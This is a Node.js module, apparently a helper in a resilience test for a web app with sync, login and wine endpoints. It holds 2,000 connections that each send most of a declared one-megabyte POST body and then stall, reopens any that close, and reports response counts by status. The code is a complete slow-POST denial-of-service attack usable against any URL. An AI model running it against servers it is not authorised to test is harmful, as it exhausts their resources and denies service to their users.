/**
 * Holds 2,000 connections that each send 999,000 of 1,000,000 bytes and then stop. A closed
 * connection is reopened after a second. Started with `fork` and `URL [COOKIE]`. The message `stop`
 * ends the attack. The process then sends the number of answers by path and status.
 */
import { Buffer } from "node:buffer";
import { once } from "node:events";
import { connect } from "node:net";
import { setTimeout } from "node:timers/promises";

const CONNECTIONS = 2_000;
const AGAIN_AFTER_MS = 1_000;
/** The connections are opened over this time, so that this process is not the bottleneck. */
const OPEN_WITHIN_MS = 3_000;

const [url, cookie = ""] = process.argv.slice(2);
const { hostname, port } = new URL(url);
const PATHS = ["/api/sync/push", "/api/auth/login", "/api/wines"];
const SENT = Buffer.alloc(999_000, " ");
const counts = {};
let isOver = false;

const held = Array.from({ length: CONNECTIONS }, (_, at) => hold(PATHS[at % PATHS.length]));

await once(process, "message");
isOver = true;
process.send(counts, () => process.exit());
await Promise.all(held);

async function hold(path) {
  await setTimeout(Math.random() * OPEN_WITHIN_MS);
  while (!isOver) {
    await stall(path);
    await setTimeout(AGAIN_AFTER_MS);
  }
}

/** Sends most of a body. Resolves when the connection is closed. */
function stall(path) {
  const socket = connect(Number(port), hostname);
  const head = [
    `POST ${path} HTTP/1.1`,
    `Host: ${hostname}`,
    `Cookie: ${cookie}`,
    "Content-Type: application/json",
    "Content-Length: 1000000",
  ];
  socket.write(`${head.join("\r\n")}\r\n\r\n`);
  socket.write(SENT);
  socket.once("data", (chunk) => {
    const said = `${path} ${chunk.toString("latin1").split(" ")[1]}`;
    counts[said] = (counts[said] ?? 0) + 1;
  });
  return new Promise((resolve) => {
    socket.on("error", () => undefined).on("close", resolve);
  });
}
